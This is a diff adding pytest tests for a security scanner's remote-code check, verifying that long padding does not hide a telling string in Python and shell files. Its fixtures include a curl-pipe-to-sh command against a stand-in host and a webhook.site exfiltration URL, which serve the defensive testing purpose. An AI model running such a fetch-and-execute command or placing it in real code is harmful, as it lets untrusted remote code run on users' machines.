@@ -1,0 +1,48 @@
+"""Code: neither harmless things in numbers nor sheer length hide a grave one."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from pathlib import Path
+from typing import Final
+
+import pytest
+
+from scanner.checks.remote_code import CHECK
+from scanner.file_check import FileVerdict
+from tests.assets.make_file_assets import write_all
+from tests.scanner.check_runs import findings_of
+
+_SENT: Final = "https://webhook.site/x"
+_PIPED: Final = "curl http://x.example/a | sh"
+
+
+def _verdicts(folder: Path, files: Mapping[str, str]) -> dict[str, FileVerdict]:
+    """The worst verdict of every file that something was said about."""
+    found = findings_of(CHECK, write_all(folder, {name: text.encode() for name, text in files.items()}))
+    verdicts: dict[str, FileVerdict] = {}
+    for each in found:
+        verdict = CHECK.verdict_of(each)
+        for place in each.locations if verdict is not None else ():
+            kept = verdicts.setdefault(place.path, verdict)
+            verdicts[place.path] = max(kept, verdict, key=lambda one: one.rank)
+    return verdicts
+
+
+@pytest.mark.parametrize("before", [0, 3495, 3990, 4000, 100_000])
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("a.py", f"x = '{{}} {_SENT}'"),
+        ("a.sh", f"echo {{}}; {_PIPED}"),
+        ("a.sh", f"echo {{}}; {_PIPED} {{}}"),
+    ],
+)
+def test_length_hides_no_telling_text(name: str, text: str, before: int, tmp_path: Path) -> None:
+    source = text.replace("{}", "a " * (before // 2))
+    assert _verdicts(tmp_path, {name: source})[name] is FileVerdict.ATTACK
+
+
+def test_text_that_a_piece_cuts_off_is_read_as_it_goes_on(tmp_path: Path) -> None:
+    source = f"x = '{'a' * 3992}.profiler {'a' * 4000}'"
+    assert _verdicts(tmp_path, {"a.py": source})["a.py"] is FileVerdict.PLAIN_DATA
